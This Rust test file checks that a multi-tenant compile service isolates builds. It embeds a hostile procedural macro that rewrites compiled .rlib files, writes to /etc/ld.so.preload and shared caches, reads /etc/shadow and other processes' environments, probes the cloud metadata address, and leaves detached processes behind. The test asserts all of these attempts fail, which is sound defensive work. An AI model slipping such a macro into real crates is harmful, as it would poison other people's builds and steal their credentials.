//! A procedural macro runs inside of the compiler, with all that the compiler has at hand. It spoils whatever it can write, and
//! still nobody else's compile is another for it.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use ignite_compiler_builder::{Builder, CompileEvent, CompileRequest, Compiled, Part, Whence};

use crate::hostile::everything;
use crate::support::{builder, builder_with, folder, slow};

/// What is the same for everyone, or another tenant's.
const NOT_ITS_OWN: [&str; 4] = ["dependencies", "depot", "artifacts", "downloads"];

/// A macro that tries everything once, and says what it could do on the compiler's own standard error.
const MACRO: &str = r##"
extern crate proc_macro;
use proc_macro::TokenStream;
use std::net::{SocketAddr, TcpStream};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;
use std::{env, fs};

fn could(what: &str, done: bool) {
    if done {
        eprintln!("could {what}");
    }
}

/// Changes words in compiled crates, so that everything still links, and leaves libraries that a later compile might take.
fn spoil(folder: &Path, depth: usize, spoiled: &mut usize) {
    let Ok(entries) = fs::read_dir(folder) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() && depth > 0 {
            spoil(&path, depth - 1, spoiled);
        } else if kind.is_file() && (name.ends_with(".rlib") || name.ends_with(".rmeta")) {
            let Ok(mut bytes) = fs::read(&path) else { continue };
            for at in 0..bytes.len().saturating_sub(16) {
                if &bytes[at..at + 16] == b"recursion limit " {
                    bytes[at..at + 16].copy_from_slice(b"POISONED limit! ");
                }
            }
            *spoiled += usize::from(fs::write(&path, &bytes).is_ok());
            let _ = fs::write(path.with_extension("poison.rlib"), &bytes);
        }
    }
}

#[proc_macro]
pub fn attack(_: TokenStream) -> TokenStream {
    // Everything the compiler was told of: where it writes, and where it looks for crates.
    let mut folders: Vec<PathBuf> = Vec::new();
    for argument in env::args() {
        let path = argument.rsplit('=').next().unwrap_or_default();
        if path.starts_with('/') {
            folders.extend(Path::new(path).ancestors().take(9).map(Path::to_owned));
        }
    }
    folders.extend(env::current_dir().iter().flat_map(|dir| dir.ancestors()).map(Path::to_owned));
    // Each crate is told of by a path of its own below the same few.
    folders.sort();
    folders.dedup();
    let mut spoiled = 0;
    for folder in &folders {
        if folder.join("dependencies").is_dir() || folder.join("deps").is_dir() || folder.join("target").is_dir() {
            spoil(folder, 8, &mut spoiled);
        }
    }
    eprintln!("found {} folders to spoil things in", folders.len());

    let cargo = env::var("CARGO_HOME").unwrap_or_else(|_| "/nowhere".to_owned());
    let tools = env::var("PATH").unwrap_or_default();
    let shared = "@CACHE@/compile";
    for file in [format!("{cargo}/config.toml"), format!("{cargo}/registry/poison"), format!("{cargo}/git/poison"),
        "/ignite/work/fetched".into(), "/ignite/work/dependencies".into(), "/ignite/poison".into(),
        "/usr/lib/poison".into(), "/etc/ld.so.preload".into(), "@TENANT@/poison".into(),
        format!("{shared}/dependencies/poison"), format!("{shared}/depot/poison"), format!("{shared}/artifacts/poison"),
        format!("{}/poison", tools.split(':').next().unwrap_or_default())] {
        could(&format!("write {file}"), fs::write(&file, "poison").is_ok());
    }
    could("hide a folder behind a link", symlink("@TENANT@", format!("{cargo}/linked")).is_ok());

    for file in ["/etc/shadow", "/proc/1/environ", "@TENANT@/secret", "@TENANT@", "@CACHE@", "@CACHE@/compile/artifacts",
        "@CACHE@/compile/logs", "@CACHE@/compile/work"] {
        could(&format!("read {file}"), fs::read(file).is_ok() || fs::read_dir(file).is_ok());
    }
    for (name, value) in env::vars() {
        could(&format!("see {name}"), value.contains("top-secret") || name.contains("TOKEN") || name.contains("SECRET"));
    }
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let seen = fs::read(entry.path().join("environ")).unwrap_or_default();
        could("see the environment of another", seen.windows(10).any(|part| part == b"top-secret"));
    }
    for address in ["127.0.0.1:@PORT@", "169.254.169.254:80"] {
        let address: SocketAddr = address.parse().unwrap();
        could(&format!("connect to {address}"), TcpStream::connect_timeout(&address, Duration::from_secs(3)).is_ok());
    }
    let _ = Command::new("sh").args(["-c", "trap '' TERM INT HUP; setsid sleep @MARK@ & sleep @MARK@ &"])
        .stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status();
    eprintln!("tried everything");
    TokenStream::new()
}
"##;

const SPOILER: &str =
    "[package]\nname = \"spoiler\"\nversion = \"0.1.0\"\nedition = \"2024\"\n[lib]\nproc-macro = true\n";

/// An app with the same dependencies as the others, and with the macro or without.
fn app(name: &str, attack: Option<&str>) -> tempfile::TempDir {
    let dependency = if attack.is_some() { "spoiler = { path = \"spoiler\" }\n" } else { "" };
    let manifest = format!(
        "[package]\nname = \"{name}\"\nversion = \"1.0.0\"\nedition = \"2024\"\n\n[dependencies]\nfastrand = \"2\"\n{dependency}"
    );
    let call = if attack.is_some() { "spoiler::attack!();\n" } else { "" };
    let handler = format!(
        "use ignite::prelude::*;\n{call}\n#[ignite::main]\nasync fn handler(_req: Request, _ctx: Context) -> Result<impl IntoResponse> {{\n    \
         let value: serde_json::Value = serde_json::from_str(\"[[[]]]\").unwrap_or_default();\n    \
         Ok(format!(\"{name} {{}} {{value}}\", fastrand::u8(..)))\n}}\n"
    );
    let mut files = vec![("Cargo.toml", manifest.as_str()), ("src/lib.rs", handler.as_str())];
    files.extend(attack.map(|_| ("spoiler/Cargo.toml", SPOILER)));
    files.extend(attack.map(|attack| ("spoiler/src/lib.rs", attack)));
    folder(&files)
}

fn compile(builder: &Builder, source: &Path, tenant: &str) -> (Compiled, String) {
    let mut request = CompileRequest::new(source, source.join("out"));
    request.tenant = tenant.to_owned();
    request.quick = true;
    let mut lines = String::new();
    let done = builder.compile(&request, &mut |event| {
        if let CompileEvent::Line { line, .. } = event {
            lines.push_str(line);
            lines.push('\n');
        }
    });
    (done.unwrap_or_else(|error| panic!("{}\n{lines}", error.report())), lines)
}

fn whence(compiled: &Compiled, part: Part) -> Option<Whence> {
    compiled.origins.iter().find(|origin| origin.part == part).map(|origin| origin.whence)
}

/// What lies in the folders of the cache that are not the attacker's alone.
fn not_its_own(cache: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    NOT_ITS_OWN
        .iter()
        .map(|name| cache.join("compile").join(name))
        .filter(|path| path.is_dir())
        .flat_map(|path| everything(&path))
        .collect()
}

#[test]
fn a_macro_spoils_nothing_for_anybody_else() {
    if !slow() {
        return;
    }
    let (shared, empty) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let cache = shared.path().to_owned();
    let tenant = folder(&[("secret", "of another tenant\n")]);
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let mark = format!("7{:07}", std::process::id());
    let attack = MACRO
        .replace("@TENANT@", &tenant.path().display().to_string())
        .replace("@CACHE@", &cache.display().to_string())
        .replace("@PORT@", &tcp.local_addr().unwrap().port().to_string())
        .replace("@MARK@", &mark);
    let secrets = [("AWS_SECRET_ACCESS_KEY", "top-secret"), ("CARGO_REGISTRY_TOKEN", "top-secret")];
    let builder_shared = builder_with(cache.clone(), &secrets);
    let (first, hostile, victim) = (app("first", None), app("hostile", Some(&attack)), app("victim", None));

    let (made, _) = compile(&builder_shared, first.path(), "a");
    assert_eq!(whence(&made, Part::Dependencies), Some(Whence::Made));
    let before = not_its_own(&cache);
    assert!(before.keys().any(|path| path.extension().is_some_and(|end| end == "rlib")), "there is something to spoil");

    // Twice: what the first one laid out is there for the second.
    for round in 0..2 {
        let (_, lines) = compile(&builder_shared, hostile.path(), "evil");
        assert!(lines.contains("tried everything"), "the macro did not run to its end: {lines}");
        assert!(!lines.contains("could "), "{lines}");
        assert!(!running(&mark), "it left a process behind");
        let handler = hostile.path().join("src/lib.rs");
        let text = fs::read_to_string(&handler).unwrap();
        fs::write(&handler, format!("{text}// {round}\n")).unwrap();
    }
    let after = not_its_own(&cache);
    let changed: Vec<_> =
        before.iter().filter(|(path, what)| after.get(*path) != Some(what)).map(|(path, _)| path).collect();
    assert_eq!(changed, Vec::<&PathBuf>::new(), "what is not its own was changed");
    let poison: Vec<_> = after.keys().filter(|path| path.to_string_lossy().contains("poison")).collect();
    assert_eq!(poison, Vec::<&PathBuf>::new(), "it left something where others look");
    assert_eq!(fs::read_to_string(tenant.path().join("secret")).unwrap(), "of another tenant\n");
    assert_eq!(fs::read_dir(tenant.path()).unwrap().count(), 1);
    tcp.set_nonblocking(true).unwrap();
    assert!(tcp.accept().is_err(), "a socket of the machine was reached");

    // Another tenant's compile takes what is shared, and is what it would be had nobody ever compiled here.
    let (theirs, lines) = compile(&builder_shared, victim.path(), "b");
    assert_eq!(whence(&theirs, Part::Dependencies), Some(Whence::Shared), "{lines}");
    let (alone, _) = compile(&builder(empty.path().to_owned()), victim.path(), "c");
    assert_eq!(theirs.digest, alone.digest, "as if nobody else had ever compiled here");
}

/// Whether a process of this machine has this word in its command line.
fn running(mark: &str) -> bool {
    fs::read_dir("/proc").unwrap().flatten().any(|entry| {
        let line = fs::read_to_string(entry.path().join("cmdline")).unwrap_or_default();
        line.split('\0').any(|argument| argument == mark)
    })
}
